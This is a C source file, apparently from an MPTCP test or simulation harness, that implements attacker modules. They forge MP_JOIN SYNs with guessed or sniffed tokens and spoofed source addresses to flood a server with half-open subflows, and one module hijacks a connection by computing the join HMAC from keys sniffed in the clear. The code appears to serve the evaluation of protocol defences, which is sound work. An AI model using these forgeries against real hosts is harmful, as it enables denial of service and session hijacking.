/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * attack_join.c - threats A3 and A5: MP_JOIN SYNs from the attacker.
 *
 * Each forgery is a SYN with MP_JOIN (RFC 8684 section 3.2) toward the
 * victim, the server of the connection, from a fresh source port each
 * time, so that every one that names a known token opens a half-open
 * subflow there:
 *   "join-guess" (A3, off-path): a random token each time. One guess hits
 *                 a given connection with probability 2^-32 (the token is
 *                 the top 32 bits of SHA-256 of the server's key); a hit
 *                 would still need the keys for the third ACK's HMAC.
 *   "join-flood" (A5): the connection's real token when the attacker saw
 *                 the MP_CAPABLE keys (on-path; the token follows from the
 *                 server's key, mptcp_key_token_idsn), random tokens
 *                 otherwise. Each SYN with the real token costs the server
 *                 a half-open subflow and an HMAC for its SYN/ACK.
 * The source address is `peer_addr` when it is set (a spoofed address
 * that the SYN/ACKs never reach, so the half-open subflows wait for their
 * timeout), otherwise the victim's peer's (on-path) address.
 * What protects the victim: the token's 32 bits and the HMAC of the third
 * ACK (not switchable in RFC 8684), and the bound on half-open joins per
 * connection (mptcp_config.max_half_open_joins, enforce_limits).
 */
#include <string.h>

#include "attack.h"

static int join_guess_init(struct mptcp_attacker *a) {
  return a->cfg.on_path ? MPTCP_ERR_INVALID_ARGUMENT : 0;
}

static int fill_join(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                     int real_token) {
  uint64_t r = atk_rand64(a);
  uint32_t token = (uint32_t)(r >> 32);
  if (real_token && a->st.keys_known) {
    /* f runs toward the victim (the server): the token of its key */
    uint64_t key = f->from_client ? a->key_server : a->key_client;
    mptcp_key_token_idsn(key, &token, NULL);
  }
  if (a->cfg.peer_addr.family == f->dst.family) {
    a->forge_src = a->cfg.peer_addr;
    a->forge_src_set = 1;
  }
  h->sport = (uint16_t)(1024 + (uint16_t)r % 64000); /* a fresh subflow each time */
  h->seq = (uint32_t)(r >> 16);
  h->ack = 0;
  h->flags = MPTCP_TH_SYN;
  h->window = 65535;
  h->opts = MPTCP_OPT_MP_JOIN;
  h->join.len = MPTCP_JOIN_LEN_SYN;
  h->join.token = token;
  h->join.nonce = (uint32_t)atk_rand64(a);
  h->join.addr_id = a->cfg.addr_id;
  h->join.backup = 0;
  return 0;
}

static int write_join_guess(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                            uint64_t now) {
  (void)now;
  return fill_join(a, f, h, 0);
}

static int write_join_flood(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                            uint64_t now) {
  (void)now;
  if (a->cfg.on_path && !a->st.keys_known)
    return 1; /* not yet: the MP_CAPABLE keys give the token */
  return fill_join(a, f, h, 1);
}

/*
 * "eavesdrop-join" (A3, the residual threat): an on-path attacker that saw
 * the MP_CAPABLE keys opens a subflow of its own into the connection, from
 * its own address (peer_addr) toward the victim: SYN with MP_JOIN (the
 * victim's token), then, once the victim's SYN/ACK arrives, the third ACK
 * with HMAC-A computed as the real peer would (RFC 8684 section 3.2: key
 * of the initiator, that is the peer's, then the victim's; nonces R-A,
 * R-B), then cumulative ACKs for what the victim sends on it. Nothing
 * protects against it but secrecy of the keys, which MPTCP v1 sends in
 * clear (RFC 7430 section 5; RFC 8684 section 5).
 */
static int ej_init(struct mptcp_attacker *a) {
  if (!a->cfg.on_path || (a->cfg.peer_addr.family != 4 && a->cfg.peer_addr.family != 6))
    return MPTCP_ERR_INVALID_ARGUMENT;
  return 0;
}

/* A segment on the attacker's own subflow, from the victim. */
static void ej_observe(struct mptcp_attacker *a, const struct atk_flow *f, const mptcp_tcphdr *th,
                       uint64_t now) {
  (void)now;
  mptcp_addr me = a->cfg.peer_addr;
  me.port = a->ej.port;
  if (a->ej.state == 0 || f->dst.family != me.family || f->dst.port != me.port ||
      memcmp(f->dst.ip, me.ip, me.family == 6 ? 16 : 4) != 0)
    return;
  if (th->flags & MPTCP_TH_RST) {
    a->ej.state = 0; /* refused: a fresh try with a new port */
    a->ej.ack_due = 0;
    return;
  }
  if (a->ej.state == 1 && (th->flags & (MPTCP_TH_SYN | MPTCP_TH_ACK)) ==
                              (MPTCP_TH_SYN | MPTCP_TH_ACK)) {
    if (!(th->opts & MPTCP_OPT_MP_JOIN) || th->join.len != MPTCP_JOIN_LEN_SYNACK ||
        th->ack != a->ej.snd_nxt)
      return;
    a->ej.nonce_victim = th->join.nonce;
    a->ej.rcv_nxt = th->seq + 1;
    a->ej.state = 2;
    return;
  }
  if (a->ej.state != 3 || (th->flags & MPTCP_TH_SYN))
    return;
  a->st.joined = 1; /* the victim's fourth ACK, or data: established */
  size_t plen = f->last_plen;
  if (plen && th->seq == a->ej.rcv_nxt) {
    a->ej.rcv_nxt += (uint32_t)plen; /* in sequence: taken */
    a->st.bytes_received += plen;
  }
  if (plen)
    a->ej.ack_due = 1; /* in sequence or not: acknowledge what is held */
}

static int ej_write(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                    uint64_t now) {
  uint64_t kv, kp; /* the victim's key, its peer's */
  if (!atk_victim_key(a, f, &kv))
    return 1; /* not yet: the keys give the token and the HMAC */
  kp = kv == a->key_client ? a->key_server : a->key_client;
  a->forge_src = a->cfg.peer_addr;
  a->forge_src_set = 1;
  h->window = 65535;
  /* no answer within a second to the SYN (lost, or refused without a
   * reset): a fresh one; none within 200 ms to the third ACK: again, as a
   * joining host retransmits it (RFC 8684 section 3.2) */
  if (a->ej.state == 1 && now - a->ej.sent_at >= MPTCP_S)
    a->ej.state = 0;
  if (a->ej.state == 3 && !a->st.joined && now - a->ej.sent_at >= 200 * MPTCP_MS)
    a->ej.state = 2;
  if (a->ej.state == 0) { /* SYN with MP_JOIN, a fresh port */
    uint64_t r = atk_rand64(a);
    a->ej.port = (uint16_t)(1024 + (uint16_t)r % 64000);
    a->ej.snd_nxt = (uint32_t)(r >> 16) + 1;
    a->ej.nonce = (uint32_t)atk_rand64(a);
    a->ej.state = 1;
    a->ej.sent_at = now;
    h->sport = a->ej.port;
    h->seq = a->ej.snd_nxt - 1;
    h->ack = 0;
    h->flags = MPTCP_TH_SYN;
    h->opts = MPTCP_OPT_MP_JOIN;
    h->join.len = MPTCP_JOIN_LEN_SYN;
    mptcp_key_token_idsn(kv, &h->join.token, NULL);
    h->join.nonce = a->ej.nonce;
    h->join.addr_id = a->cfg.addr_id;
    return 0;
  }
  h->sport = a->ej.port;
  h->seq = a->ej.snd_nxt;
  h->ack = a->ej.rcv_nxt;
  h->flags = MPTCP_TH_ACK;
  if (a->ej.state == 2) { /* the third ACK: HMAC-A as the peer computes it */
    uint8_t mac[MPTCP_HMAC_SHA256_LEN];
    mptcp_join_hmac(kp, kv, a->ej.nonce, a->ej.nonce_victim, mac);
    h->opts = MPTCP_OPT_MP_JOIN;
    h->join.len = MPTCP_JOIN_LEN_ACK;
    memcpy(h->join.hmac, mac, MPTCP_JOIN_HMAC_LEN);
    a->ej.state = 3;
    a->ej.sent_at = now;
    return 0;
  }
  if (a->ej.state == 3 && a->ej.ack_due) {
    a->ej.ack_due = 0;
    return 0; /* a pure ACK of what arrived */
  }
  return 1; /* nothing owed: wait for the victim */
}

const struct attack_ops attack_join_guess = {
    .name = "join-guess", .init = join_guess_init, .write = write_join_guess};
const struct attack_ops attack_join_flood = {.name = "join-flood", .write = write_join_flood};
const struct attack_ops attack_eavesdrop_join = {
    .name = "eavesdrop-join", .init = ej_init, .observe = ej_observe, .write = ej_write};
